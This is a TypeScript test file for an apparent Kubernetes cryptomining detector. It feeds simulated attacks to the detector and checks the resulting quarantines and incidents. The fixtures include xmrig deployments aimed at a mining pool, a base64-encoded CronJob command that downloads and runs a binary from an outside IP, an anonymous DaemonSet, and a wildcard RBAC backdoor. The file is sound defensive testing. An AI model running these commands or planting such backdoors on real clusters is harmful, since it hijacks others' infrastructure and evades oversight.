import {
  auditExample,
  containerExample,
  deploying,
  requestExample,
  workloadExample,
} from '../../lambdas/core/detectors/audit-example';
import { falcoExample } from '../../lambdas/core/detectors/falco-example';
import { apiFindingExample, findingExample } from '../../lambdas/core/detectors/guardduty-example';
import type { AuditEvent } from '../../lambdas/core/model/audit-event';
import { incidentsIn, outcomeOf, type Scenario } from '../support/scenario';
import { moneroAddress } from '../support/wallets';

const WALLET = moneroAddress('scenario');

test('ATT-01: a loud deployment is quarantined on the audit log alone', () => {
  const loud = deploying({
    image: 'docker.io/xx/xmrig:latest',
    args: ['-o', 'stratum+tcp://pool.example:3333', '-u', WALLET, '--donate-level=1'],
  });
  expect(outcomeOf({ audit: [loud] })).toMatchObject({
    state: 'quarantine',
    detectors: expect.arrayContaining(['KM-A01', 'KM-A02', 'KM-A03', 'KM-A04']),
  });
});

test('ATT-05: a schedule whose command is encoded is quarantined when it is written', () => {
  const script = `wget -q http://198.51.100.7/a -O /tmp/a; chmod +x /tmp/a; /tmp/a -o pool.example:3333 -u ${WALLET} --donate-level 1`;
  const cronJob = auditExample({
    objectRef: { resource: 'cronjobs', subresource: '', apiGroup: 'batch', namespace: 'shop', name: 'tidy', uid: '' },
    workload: workloadExample(
      [containerExample({ command: ['sh', '-c', `echo ${btoa(script)} | base64 -d | sh`], args: [] })],
      {
        entity: { cluster: 'prod-a', kind: 'CronJob', namespace: 'shop', name: 'tidy', uid: 'uid-tidy' },
        schedule: '*/10 * * * *',
      },
    ),
  });
  const { state, detectors } = outcomeOf({ audit: [cronJob] });
  expect(state).toBe('quarantine');
  expect(detectors).toEqual(expect.arrayContaining(['KM-A01', 'KM-A02', 'KM-A03', 'KM-A06']));
});

test('ATT: a miner that a stranger spreads over namespaces is found as one thing', () => {
  const copies = ['shop', 'games', 'shop', 'news', 'games'].map((namespace, n) => {
    const workload = workloadExample([containerExample({ image: 'docker.io/stranger/cache:1', args: ['-u', WALLET] })]);
    return auditExample({
      auditId: `audit-${n}`,
      at: new Date(Date.parse('2026-11-23T12:00:00Z') + n * 60_000).toISOString(),
      workload: { ...workload, entity: { ...workload.entity, namespace, name: `cache-${n}`, uid: `uid-${n}` } },
    });
  });
  expect(outcomeOf({ audit: copies })).toMatchObject({
    state: 'incident',
    detectors: expect.arrayContaining(['KM-A01', 'KM-A15', 'KM-B17']),
  });
});

test('a miner that was brought into a container is an incident from Falco alone', () => {
  const alert = falcoExample({
    'proc.exepath': '/tmp/nginx-worker',
    'proc.cmdline': 'nginx-worker --algo=rx/0 --url=pool.example:10128 --cpu-priority 5',
    'evt.arg.flags': 'EXE_WRITABLE|EXE_UPPER_LAYER',
  });
  expect(outcomeOf({ falco: [alert] })).toMatchObject({
    state: 'incident',
    detectors: expect.arrayContaining(['KM-F01', 'KM-F03']),
  });
});

test('names of images and programs alone are told to people and quarantine nothing', () => {
  const image = deploying({ image: 'docker.io/yenik65958/secret', args: [] });
  const program = falcoExample(
    { 'proc.exepath': '/usr/bin/xmrig', 'proc.name': 'xmrig', 'proc.cmdline': 'xmrig' },
    { rule: 'Known Cryptominer Process Executed' },
  );
  const { state, reasons } = outcomeOf({ audit: [image], falco: [program] });
  expect(state).toBe('incident');
  expect(reasons).toContain('all that is known are names of images and programs: approval needed');
});

describe('one execution that every product sees', () => {
  const executed = findingExample({ id: 'f-1', type: 'Impact:Runtime/CryptoMinerExecuted', sequenceId: 'sequence-1' });
  const newBinary = findingExample({ id: 'f-2', sequenceId: 'sequence-1' });
  const sequence = apiFindingExample({
    id: 'sequence-1',
    type: 'AttackSequence:EKS/CompromisedCluster',
    workload: undefined,
    sequenceId: 'sequence-1',
    members: [executed, newBinary],
  });
  const alert = falcoExample({ 'proc.cmdline': 'a --algo=rx/0 --url=pool.example:10128 --donate-level 1' });

  test('counts once on its channel, and a second product adds reliability alone', () => {
    const { contributions } = outcomeOf({ falco: [alert], guardduty: [executed] });
    const ofGuardDuty = contributions.filter(({ channel, detector }) => channel === 'EXEC' && /^KM-G/.test(detector));
    expect(ofGuardDuty).toMatchObject([{ detector: 'KM-G02', weight: 0.7 }]);
  });

  test('is not counted again because an attack sequence lists it', () => {
    const findings = outcomeOf({ guardduty: [executed, newBinary] });
    const listed = outcomeOf({ guardduty: [executed, newBinary, sequence] });
    expect(listed.probability).toBe(findings.probability);
    expect(outcomeOf({ guardduty: [sequence] }).probability).toBe(findings.probability);
    expect(findings.contributions.map(({ detector }) => detector)).toEqual(['KM-G09', 'KM-G02', 'KM-G05']);
  });
});
const RBAC = 'rbac.authorization.k8s.io';

const daemonSet = (name: string, namespace: string, image: string, changes: Partial<AuditEvent>): AuditEvent =>
  auditExample({
    objectRef: { resource: 'daemonsets', subresource: '', apiGroup: 'apps', namespace, name, uid: '' },
    workload: workloadExample([containerExample({ name, image, args: [] })], {
      entity: { cluster: 'prod-a', kind: 'DaemonSet', namespace, name, uid: `uid-${name}` },
    }),
    ...changes,
  });

const ANONYMOUS: Partial<AuditEvent> = {
  username: 'system:anonymous',
  groups: ['system:unauthenticated'],
  decision: 'allow',
  sourceIps: ['198.51.100.7'],
};

const summaryOf = (scenario: Scenario) =>
  incidentsIn(scenario).map(({ state, hypothesis, entity }) => `${state} ${hypothesis} ${entity.kind} ${entity.name}`);

test('ATT-01: a workload’s token that was carried away is named beside what it deployed', () => {
  const loud = deploying({
    image: 'docker.io/xx/xmrig:latest',
    args: ['-o', 'stratum+tcp://pool.example:3333', '-u', WALLET],
  });
  const stolen = { ...loud, username: 'system:serviceaccount:shop:ci', origin: 'outside' } as const;
  const outcome = outcomeOf({ audit: [stolen] });
  expect(outcome).toMatchObject({ state: 'quarantine', detectors: expect.arrayContaining(['KM-B12']) });
});

test('ATT-02: a DaemonSet of somebody without a name, which looks like a part of the cluster, is an incident', () => {
  const scenario = {
    audit: [
      requestExample({ resource: 'pods' }, { ...ANONYMOUS, verb: 'list', code: 200, requestUri: '/api/v1/pods' }),
      daemonSet('proxy-api', 'default', 'docker.io/somebody/pause:latest', ANONYMOUS),
    ],
  };
  expect(summaryOf(scenario)[0]).toBe('incident intrusion DaemonSet proxy-api');
});

describe('ATT-03: a way back in, and then a miner', () => {
  const backdoor = [
    requestExample({ resource: 'secrets' }, { verb: 'list', code: 200 }),
    requestExample(
      { resource: 'clusterroles', apiGroup: RBAC, name: 'everything' },
      { written: { kind: 'role', rules: [{ apiGroups: ['*'], resources: ['*'], verbs: ['*'] }] } },
    ),
    requestExample({ resource: 'serviceaccounts', namespace: 'kube-system', name: 'kube-controller' }),
    requestExample(
      { resource: 'clusterrolebindings', apiGroup: RBAC, name: 'system:controller:kube-controller' },
      {
        written: {
          kind: 'binding',
          role: 'everything',
          subjects: [{ kind: 'ServiceAccount', namespace: 'kube-system', name: 'kube-controller' }],
        },
      },
    ),
  ].map((event, index): AuditEvent => ({ ...event, ...ANONYMOUS, auditId: `backdoor-${index}` }));

  test('is an incident before there is a miner', () => {
    expect(summaryOf({ audit: backdoor })[0]).toBe('incident intrusion Cluster prod-a');
  });

  test('is one by a name too', () => {
    const named = backdoor.map((event) => ({ ...event, username: 'mallory', groups: [] }));
    expect(summaryOf({ audit: named })[0]).toBe('incident intrusion User mallory');
  });

  test('is an incident about the miner, though it has neither wallet nor pool', () => {
    const miner = daemonSet('kube-controller', 'kube-system', 'docker.io/somebody/kube-controller:1', {
      username: 'system:serviceaccount:kube-system:kube-controller',
      origin: 'outside',
    });
    expect(summaryOf({ audit: [miner] }).slice(0, 2)).toEqual([
      'incident intrusion DaemonSet kube-controller',
      'incident mining DaemonSet kube-controller',
    ]);
  });
});

test('ATT-07: commands by way of a kubelet are evidence about each pod, and name who sent them', () => {
  const through = (path: string, index: number) =>
    requestExample(
      { resource: 'nodes', subresource: 'proxy', name: 'node-1' },
      {
        verb: 'create',
        code: 200,
        auditId: `proxy-${index}`,
        username: 'system:serviceaccount:monitoring:scraper',
        origin: 'inside',
        requestUri: `/api/v1/nodes/node-1/proxy/${path}`,
      },
    );
  const pods = ['checkout-1', 'orders-1', 'search-1'];
  const script = encodeURIComponent(`/dev/shm/a -o stratum+tcp://pool.example:3333 -u ${WALLET}`);
  const audit = [
    through('pods', 0),
    ...pods.map((pod, index) => through(`run/shop/${pod}/app?cmd=${script}`, index + 1)),
  ];
  const incidents = incidentsIn({ audit }).filter(({ state }) => state === 'incident');
  expect(incidents.map(({ entity }) => entity.name).sort()).toEqual(pods);
  expect(incidents[0]?.evidence[0]?.facts['actor']).toBe('system:serviceaccount:monitoring:scraper');
});

test('a quarantine that somebody takes away by hand is told to people', () => {
  const removed = requestExample(
    {
      resource: 'networkpolicies',
      apiGroup: 'networking.k8s.io',
      namespace: 'shop',
      name: 'mineguard-inc-0123456789abcdef',
    },
    { verb: 'delete', code: 200, username: 'mallory' },
  );
  expect(summaryOf({ audit: [removed] })[0]).toBe('notify-low intrusion User mallory');
});
